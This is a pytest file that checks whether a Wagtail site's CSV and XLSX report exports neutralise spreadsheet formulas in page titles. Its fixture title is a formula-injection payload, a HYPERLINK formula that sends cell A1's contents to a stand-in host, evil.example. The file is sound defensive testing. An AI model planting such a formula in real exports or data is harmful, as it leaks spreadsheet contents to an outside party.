"""Wagtail's own report exports (site history, workflows, workflow tasks, locked and aging pages) neutralise
spreadsheet formulas as our exports do: a page titled `=HYPERLINK(…)` comes out as text, never as a formula."""

import csv
import io

import pytest
from django.utils import timezone
from openpyxl import load_workbook
from wagtail.models import Page, Workflow

from forms.views import neutralise

pytestmark = pytest.mark.django_db

HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'
REPORTS = ["site-history", "workflow", "workflow_tasks", "locked", "aging-pages"]


@pytest.fixture
def hostile_page(home, admin_user):
    page = home.add_child(instance=Page(title=HOSTILE_TITLE, slug="piege"))
    page.save_revision(user=admin_user).publish(user=admin_user)
    page.refresh_from_db()
    (page.get_workflow() or Workflow.objects.filter(active=True).first()).start(page, admin_user)
    Page.objects.filter(pk=page.pk).update(locked=True, locked_by=admin_user, locked_at=timezone.now())
    return page


def csv_cells(response):
    content = b"".join(response.streaming_content).decode().lstrip("\ufeff")
    return [cell for row in csv.reader(io.StringIO(content)) for cell in row]


def xlsx_cells(response):
    data = b"".join(response.streaming_content) if response.streaming else response.content
    sheet = load_workbook(io.BytesIO(data)).active
    return [cell.value for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("report", REPORTS)
def test_csv_export_writes_the_title_as_text(admin_client, hostile_page, report):
    response = admin_client.get(f"/admin/reports/{report}/", {"export": "csv"})
    assert response.status_code == 200
    cells = csv_cells(response)
    assert neutralise(HOSTILE_TITLE) in cells, cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]


@pytest.mark.parametrize("report", REPORTS)
def test_xlsx_export_writes_the_title_as_text(admin_client, hostile_page, report):
    response = admin_client.get(f"/admin/reports/{report}/", {"export": "xlsx"})
    assert response.status_code == 200
    cells = [cell for cell in xlsx_cells(response) if isinstance(cell, str)]
    assert neutralise(HOSTILE_TITLE) in cells, cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]


def test_the_reports_still_list_the_page(admin_client, hostile_page):
    for report in REPORTS:
        response = admin_client.get(f"/admin/reports/{report}/")
        assert response.status_code == 200
        assert "HYPERLINK" in response.content.decode(), report
